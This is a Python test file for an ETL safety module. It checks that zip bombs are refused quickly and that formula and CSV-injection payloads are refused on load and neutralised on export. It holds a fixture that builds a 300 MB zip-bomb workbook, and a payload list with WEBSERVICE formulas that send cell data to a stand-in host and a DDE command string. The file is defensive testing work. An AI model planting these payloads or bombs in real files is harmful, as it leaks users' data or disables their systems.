"""etl.safety: zip bombs refused before anything inflates; one formula rule for loads and exports."""

from __future__ import annotations

import io
import time
import zipfile

import duckdb
import openpyxl
import pytest

from etl import readers, safety
from etl.load import FileRefused, load_files
from pages.ui import export
from tests.test_load import UNITS, write

BOMB_MB = 300


@pytest.fixture(scope="module")
def bomb(tmp_path_factory):
    """A real workbook whose sharedStrings.xml inflates to 300 MB from well under 1 MB."""
    book = openpyxl.Workbook()
    book.active.append(["编号", "内容"])
    book.active.append(["1", "正常"])
    plain = io.BytesIO()
    book.save(plain)
    path = tmp_path_factory.mktemp("bomb") / "炸弹.xlsx"
    block = b"<si><t>" + b"A" * 1000 + b"</t></si>"
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            if item.filename != "xl/sharedStrings.xml":
                dst.writestr(item, src.read(item))
        with dst.open("xl/sharedStrings.xml", "w", force_zip64=True) as out:
            out.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
            for _ in range(BOMB_MB * 1024 * 1024 // len(block)):
                out.write(block)
            out.write(b"</sst>")
    assert path.stat().st_size < 2 * 1024 * 1024
    return path


def test_a_zip_bomb_is_refused_in_seconds_without_inflating(bomb):
    started = time.perf_counter()
    with pytest.raises(readers.ExportError) as caught:
        readers.read_export(bomb)
    assert time.perf_counter() - started < 2
    message = str(caught.value)
    assert message.startswith("文件「炸弹.xlsx」中的「xl/sharedStrings.xml」压缩比 ")
    assert f"超过 {readers.MAX_ZIP_RATIO}:1 的上限" in message and "\n" not in message


def test_the_loader_refuses_the_bomb_before_its_own_checks_read_it(bomb, tmp_path):
    db = tmp_path / "w.duckdb"
    load_files(db, [write(tmp_path / "units.csv", UNITS)], "units")
    started = time.perf_counter()
    with pytest.raises(FileRefused, match="压缩比"):
        load_files(db, [bomb], "complaints")
    assert time.perf_counter() - started < 5
    with pytest.raises(readers.ExportError, match="压缩比"):
        safety.check_container(bomb)


def test_an_archive_over_the_unzipped_cap_is_refused(tmp_path, monkeypatch):
    # 3 MB of text that does not compress well (ratio ~2): only the total size trips.
    monkeypatch.setattr(readers, "MAX_UNZIPPED_MB", 2)
    book = openpyxl.Workbook()
    book.active.append(["编号", "内容"])
    for i in range(40_000):
        book.active.append([str(i), f"{i * 7919 % 100003:x}{i * 104729 % 99991:x}{i**3 % 9973}"])
    book.save(tmp_path / "big.xlsx")
    with pytest.raises(
        readers.ExportError, match=r"^文件「big\.xlsx」解压后超过 2 MB（共 \d+ MB）"
    ):
        readers.read_export(tmp_path / "big.xlsx")


def test_real_workbooks_are_far_below_the_caps(realdata):
    for name in ("群众留言_2019.xlsx", "群众留言_含答复.xlsx", "wjx_survey_export.xlsx"):
        assert readers.read_export(realdata / name).format == "xlsx"


# Formulas: the payloads the old pattern let through, and values that are data.

PAYLOADS = [
    ('+A1&WEBSERVICE("http://x.example/?"&A2)', "调用 WEBSERVICE 的公式"),
    ('+"a"&HYPERLINK("http://x.example","点我")', "调用 HYPERLINK 的公式"),
    ('-A1+HYPERLINK("http://x.example")', "调用 HYPERLINK 的公式"),
    ('@A1&HYPERLINK("http://x.example")', "调用 HYPERLINK 的公式"),
    ('-TRUE+WEBSERVICE("http://x.example")', "调用 WEBSERVICE 的公式"),
    ("+A1&A2", "引用单元格的公式"),
    ("=Sheet1!A1", "公式"),
    ("-2+3+cmd|' /C calc'!A0", "DDE 命令"),
]
DATA = [
    "-3",
    "-3.5",
    "+12",
    "+86 138 0013 8000",
    "-",
    "--",
    "2024-03-05",
    "@张三 已回复",
    "==== 分隔 ====",
    "-已处理",
    "正常",
]


@pytest.mark.parametrize(("text", "reason"), PAYLOADS, ids=[p[0][:12] for p in PAYLOADS])
def test_formula_payloads_are_refused_with_the_reason(tmp_path, text, reason):
    path = tmp_path / "calls.csv"
    quoted = '"' + text.replace('"', '""') + '"'
    path.write_text(f"警情编号,回访记录\nX1,正常\nX2,{quoted}\n", encoding="utf-8")
    with pytest.raises(readers.ExportError) as caught:
        safety.check(path, readers.read_export(path))
    assert str(caught.value).startswith("文件「calls.csv」第3行「回访记录」列的内容“")
    assert f"”是{reason}，" in str(caught.value)
    assert safety.formula_reason(text) == reason


def test_the_same_pattern_decides_in_duckdb_and_in_python():
    con = duckdb.connect()
    for text in [t for t, _ in PAYLOADS] + DATA:
        in_sql = con.execute("select regexp_matches($t, $p)", {"t": text, "p": safety.FORMULA})
        assert in_sql.fetchone()[0] == safety.is_formula(text), text


def test_negative_numbers_phones_dates_and_placeholders_are_stored_verbatim(tmp_path):
    db = tmp_path / "w.duckdb"
    load_files(db, [write(tmp_path / "units.csv", UNITS)], "units")
    rows = [f"J{i},2024-03-05,东湖派出所,{v},{-i}" for i, v in enumerate(DATA, start=1)]
    calls = write(
        tmp_path / "calls.csv",
        "警情编号,报警时间,处警单位,回访记录,响应时长\n" + "\n".join(rows) + "\n",
    )
    load_files(db, [calls], "call_records")
    con = duckdb.connect(str(db), read_only=True)
    stored = con.execute(
        "select note, response_minutes from call_records order by response_minutes desc"
    ).fetchall()
    assert stored == [(v, float(-i)) for i, v in enumerate(DATA, start=1)]


def test_everything_the_loader_refuses_an_export_neutralises():
    # One rule: a payload the loader refuses and any text a spreadsheet would evaluate get an
    # apostrophe in downloads; plain data does not.
    for text, _ in PAYLOADS:
        assert export.neutralise_text(text) == "'" + text
    assert export.neutralise_text("\t=cmd") == "'\t=cmd"
    assert [export.neutralise_text(t) for t in ("正常", "2024-03-05")] == ["正常", "2024-03-05"]
    assert export.neutralise_text("+86 138 0013 8000") == "'+86 138 0013 8000"
